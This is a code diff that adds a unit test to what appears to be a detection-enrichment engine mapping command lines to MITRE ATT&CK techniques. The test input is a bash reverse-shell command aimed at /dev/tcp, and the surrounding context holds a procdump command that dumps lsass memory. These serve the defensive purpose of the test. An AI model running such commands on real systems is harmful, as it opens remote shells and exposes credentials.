@@ -237,6 +237,31 @@ describe('the enrichment engine', () => {
     ).toBe('T1059');
   });
 
+  it('answers the sub-technique when patterns of equal strength name it and its parent', () => {
+    const unix = technique(
+      'T1059.004',
+      'Unix Shell',
+      'Adversaries may abuse Unix shell commands and scripts for execution.',
+      { parent: 'T1059', platforms: ['Linux', 'macOS'] },
+    );
+    const withUnix = EnrichmentEngine.build(
+      { ...corpus, techniques: [...corpus.techniques, unix] },
+      loadPatterns(),
+    );
+    // A reverse shell names the family (medium), `bash -i` the Unix shell (medium).
+    const [s] = withUnix.enrich(
+      { command_line: 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1' },
+      { topK: 1, minConfidence: 0 },
+    );
+    expect(s?.technique).toBe('T1059.004');
+    expect(s?.evidence).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ signal: 'pattern', detail: 'reverse-shell' }),
+        expect.objectContaining({ signal: 'pattern', detail: 'unix-shell-c' }),
+      ]),
+    );
+  });
+
   it('matches artefacts in templated command lines (emulation plans, runbooks)', () => {
     const s = top({ command_line: 'procdump64.exe -accepteula -ma #{lsass_pid} #{output_file}' });
     expect(s[0]?.technique).toBe('T1003.001');
